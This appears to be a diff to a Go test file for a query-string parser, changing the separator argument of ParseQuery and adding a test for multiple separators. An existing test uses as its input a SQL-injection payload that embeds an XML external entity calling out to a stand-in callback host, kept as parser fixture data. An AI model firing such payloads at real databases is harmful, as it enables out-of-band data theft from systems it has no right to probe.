@@ -9,12 +9,23 @@ import (
 
 func TestUrlPayloads(t *testing.T) {
 	out := `var=EmptyValue'||(select extractvalue(xmltype('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE root [ <!ENTITY % awpsd SYSTEM "http://0cddnr5evws01h2bfzn5zd0cm3sxvrjv7oufi4.example'||'foo.bar/">%awpsd;`
-	q := ParseQuery(out, '&')
+	q := ParseQuery(out, "&")
 	if len(q["var"]) == 0 {
 		t.Error("var is empty")
 	}
 }
 
+func TestParseQuerySeparators(t *testing.T) {
+	q := ParseQuery("a=1;b=2&c=3", "&;")
+	if q["a"][0] != "1" || q["b"][0] != "2" || q["c"][0] != "3" {
+		t.Errorf("unexpected arguments %v", q)
+	}
+	q = ParseQuery("a=1;b=2", "&")
+	if q["a"][0] != "1;b=2" {
+		t.Errorf("unexpected arguments %v", q)
+	}
+}
+
 func TestQueryUnescape(t *testing.T) {
 	payloads := map[string]string{
 		"sample":    "sample",